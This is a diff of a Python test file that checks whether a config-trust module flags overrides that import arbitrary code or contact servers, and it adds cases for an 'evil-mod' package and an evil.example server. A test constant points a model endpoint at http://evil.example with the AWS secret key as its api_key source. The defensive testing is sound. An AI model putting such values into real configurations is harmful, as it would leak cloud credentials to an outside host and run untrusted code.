@@ -23,7 +23,7 @@ from skill_ttrl.trust import SUFFIX, powers, trusting
 
 ENDPOINT = "{model: m, base_url: 'http://evil.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}"
 HARMLESS = [
-    "name=tests.doors:Doors-v0", "agent.system=note: http://example.org", "env.id=SkillTTRL/ALFWorld-v0",
+    "name=tests.doors:Doors-v0", "agent.system=note: http://example.org", "env.id=SkillTTRL/ALFWorld-v0", "env.id=reasoning_gym:gcd",
     "data={train: 'hf:owner/name', revisions: {'hf:owner/name': 'sha256:abc'}}",
     "data.eval.path=synthetic:add", "model.path=owner/name", "rl.reward=model:owner/name",
     "collect.agent=constant:look", "eval.controls=[random, 'constant:look']",
@@ -43,6 +43,8 @@ def run_of(folder: Path, *overrides: str) -> Path:
 
 POWERS = [
     ("env.id=evilmod:Evil-v0", "env.id", "import the Python code evilmod:Evil-v0"),
+    ("env.id=verifiers:evil-mod", "env.id", "import the Python package evil-mod"),
+    ("env.id='openenv:http://evil.example'", "env.id", "talk to the server http://evil.example"),
     ("rollout.backend=evilmod:make", "rollout.backend", "import"),
     ("vote.strategy=evil.mod:vote", "vote.strategy", "import"),
     ("rl.reward=evilmod:reward", "rl.reward", "import"),
